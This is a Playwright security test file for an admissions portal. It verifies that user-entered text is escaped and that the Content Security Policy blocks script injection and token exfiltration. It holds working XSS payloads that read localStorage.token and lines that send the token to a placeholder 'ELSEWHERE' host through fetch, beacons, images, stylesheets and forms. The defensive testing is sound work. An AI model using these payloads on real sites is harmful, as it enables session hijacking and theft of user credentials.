import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type Browser, expect, type Page, test } from '@playwright/test'
import { makeOffice, staffCalls } from './office.ts'
import { SUPER_ADMIN } from './portal-environment.ts'
import { expectScreen, visit, whenLoaded } from './screen.ts'
import { enter, signInByCall } from './sign-in.ts'
import { newStaffMember, type StaffMember } from './staff.ts'
import { textsIn } from './texts.ts'

/** Trace of an executed script: the token that it reached. */
const planted = (page: Page) => page.evaluate<unknown>('globalThis.planted')
const WORDS = `Planted<img src=x onerror="globalThis.planted=localStorage.token"><script>globalThis.planted=localStorage.token</script>`

/** A university of the list that no other journey uses. */
const OFFICE_INDEX = 31

test('a script in every free text is plain text for its readers', async ({ browser, baseURL }) => {
  const { universityId, head, applicationIds, applicants } = await makeOffice(baseURL, OFFICE_INDEX, 10)
  const [id = ''] = applicationIds
  const root = await staffCalls(baseURL, SUPER_ADMIN)
  const inspector: StaffMember = { ...newStaffMember('Planted'), fullName: `${WORDS}` }
  const hired = await root.post('/staff', { ...inspector, roles: [{ name: 'MANAGER' }], university: universityId })
  const office = await staffCalls(baseURL, head)
  await office.post('/staff/request/inspector', { inspectorId: hired.data.id, requestId: id, status: 'IN_PROCESS' })
  await office.post(`/staff/request/${id}/notes`, { text: WORDS })
  const manager = await staffCalls(baseURL, inspector)
  await manager.post(`/staff/request/inspector/update/status/${id}`, { status: 'FAILED', comment: WORDS })
  const texts = { descriptionKz: WORDS, descriptionRu: WORDS, descriptionEn: WORDS }
  const { version } = (await office.get('/university/profile')).data
  await office.post('/university/edit', { tab: 'description', version, ...texts })
  const titles = { newsTitleKz: WORDS, newsTitleRu: WORDS, newsTitleEn: WORDS }
  const today = new Date(Date.now() + 5 * 3_600_000).toISOString().slice(0, 10)
  const body = `${WORDS}\n\n[link](javascript:globalThis.planted=1) ![x](x" onerror="globalThis.planted=1)`
  const news = await office.post('/university/news', {
    newsDate: today,
    ...titles,
    bodyKz: body,
    bodyRu: body,
    bodyEn: body,
  })

  const staff = await enter(browser, 'en', 'STAFF', head)
  await expectScreen(staff, staff.t('applications.staffList.title'))
  await staff.page.goto(`/admission/applications/${id}`)
  await expect(staff.page.getByText('Planted<img').first()).toBeVisible()
  expect(await planted(staff.page)).toBeUndefined()
  await office.post(`/staff/request/admin/update/status/${id}`, { status: 'PASSED', comment: '' })

  const guest = await visit(browser, 'en')
  for (const path of [
    `/admission/universities/${universityId}`,
    `/admission/universities/${universityId}/news/${news.data.id}`,
  ]) {
    await guest.page.goto(path)
    await expect(guest.page.getByText('Planted<img').first()).toBeVisible()
    await whenLoaded(guest.page)
    expect(await planted(guest.page)).toBeUndefined()
    expect(await guest.page.locator('a[href^="javascript"], img[src="x"]').count()).toBe(0)
  }
  expect(applicants.length).toBeGreaterThan(0)
})

/** Attempts of an attacker whose text became code in a page. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  'markup with a handler': `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.planted=localStorage.token">')`,
  'markup through a property': `const box = document.createElement('div'); document.body.append(box); box.innerHTML = '<img src="data:," onerror="globalThis.planted=localStorage.token">'`,
  'a script’s text': `const script = document.createElement('script'); script.text = 'globalThis.planted=localStorage.token'; document.head.append(script)`,
  'a script’s words': `const script = document.createElement('script'); script.append('globalThis.planted=localStorage.token'); document.head.append(script)`,
  'a script’s address': `const script = document.createElement('script'); script.src = 'data:text/javascript,globalThis.planted=localStorage.token'; document.head.append(script)`,
  'a handler’s text': `const image = document.createElement('img'); image.setAttribute('onerror', 'globalThis.planted=localStorage.token'); image.src = 'data:,'; document.body.append(image)`,
  'a text for later': `setTimeout('globalThis.planted=localStorage.token')`,
  'a text as code': `eval('globalThis.planted=localStorage.token')`,
  'a text as a function': `new Function('globalThis.planted=localStorage.token')()`,
  'a frame with a text': `const frame = document.createElement('iframe'); frame.srcdoc = '<script>parent.planted=parent.localStorage.token</script>'; document.body.append(frame)`,
  'a frame of a file': `const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob(['<script>parent.planted=parent.localStorage.token</script>'], { type: 'text/html' })); document.body.append(frame)`,
  'a worker of a file': `const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => { globalThis.planted = localStorage.token }`,
  'a link with a script': `const link = document.createElement('a'); link.href = 'javascript:globalThis.planted=localStorage.token;void 0'; document.body.append(link); link.click()`,
}

/** A signed-in page whose own errors do not fail the test. */
async function signedIn(browser: Browser, person: StaffMember, bypassCSP: boolean): Promise<Page> {
  const page = await (await browser.newContext({ bypassCSP })).newPage()
  await signInByCall({ page, t: textsIn('en'), language: 'en' }, 'STAFF', person)
  await page.goto('/admission/profile')
  await expect(page.locator('h1')).toBeVisible()
  return page
}

/** Runs the code as the page's own would: an evaluation itself has more rights than a page. */
async function attempt(page: Page, code: string): Promise<void> {
  await page.evaluate<undefined>(`void setTimeout(() => { try { ${code} } catch {} })`)
  await page.waitForTimeout(150)
}

test('only the policy keeps a script in a page from running and reaching the token', async ({ browser, baseURL }) => {
  const root = await staffCalls(baseURL, SUPER_ADMIN)
  const person = newStaffMember('Attacked')
  await root.post('/staff', { ...person, roles: [{ name: 'MANAGER' }] })
  for (const [what, code] of Object.entries(ATTEMPTS)) {
    const guarded = await signedIn(browser, person, false)
    await attempt(guarded, code)
    expect(await planted(guarded), what).toBeUndefined()
    await guarded.context().close()
  }
  const open = await signedIn(browser, person, true)
  const ran: string[] = []
  for (const [what, code] of Object.entries(ATTEMPTS)) {
    await attempt(open, code)
    await open.waitForFunction('globalThis.planted !== undefined', null, { timeout: 5_000 }).catch(() => undefined)
    if ((await planted(open)) !== undefined) ran.push(what)
    await open.evaluate('delete globalThis.planted')
  }
  expect(ran).toEqual(Object.keys(ATTEMPTS))
  await open.context().close()
})

/** Ways to send the token to an address, which is filled in. */
const LEAKS: Readonly<Record<string, string>> = {
  fetch: `fetch('ELSEWHERE?' + localStorage.token)`,
  beacon: `navigator.sendBeacon('ELSEWHERE', localStorage.token)`,
  picture: `new Image().src = 'ELSEWHERE?' + localStorage.token`,
  stylesheet: `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = 'ELSEWHERE?' + localStorage.token; document.head.append(link)`,
  form: `const form = document.createElement('form'); form.action = 'ELSEWHERE'; form.method = 'post'; document.body.append(form); form.submit()`,
}

test('only the policy keeps the token from being sent elsewhere', async ({ browser, baseURL }) => {
  const root = await staffCalls(baseURL, SUPER_ADMIN)
  const person = newStaffMember('Attacked')
  await root.post('/staff', { ...person, roles: [{ name: 'MANAGER' }] })
  let received = 0
  const elsewhere = createServer((_request, response) => {
    received += 1
    response.end()
  }).listen(0, '127.0.0.1')
  await once(elsewhere, 'listening')
  const address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`
  const receivedBy = async (bypassCSP: boolean): Promise<string[]> => {
    const leaks: string[] = []
    const page = await signedIn(browser, person, bypassCSP)
    for (const [name, code] of Object.entries(LEAKS)) {
      received = 0
      await attempt(page, code.replace('ELSEWHERE', address))
      for (let waits = 0; bypassCSP && received === 0 && waits < 20; waits += 1) await page.waitForTimeout(100)
      if (received > 0) leaks.push(name)
    }
    await page.context().close()
    return leaks
  }
  expect(await receivedBy(false)).toEqual([])
  expect(await receivedBy(true)).toEqual(Object.keys(LEAKS))
  elsewhere.close()
})
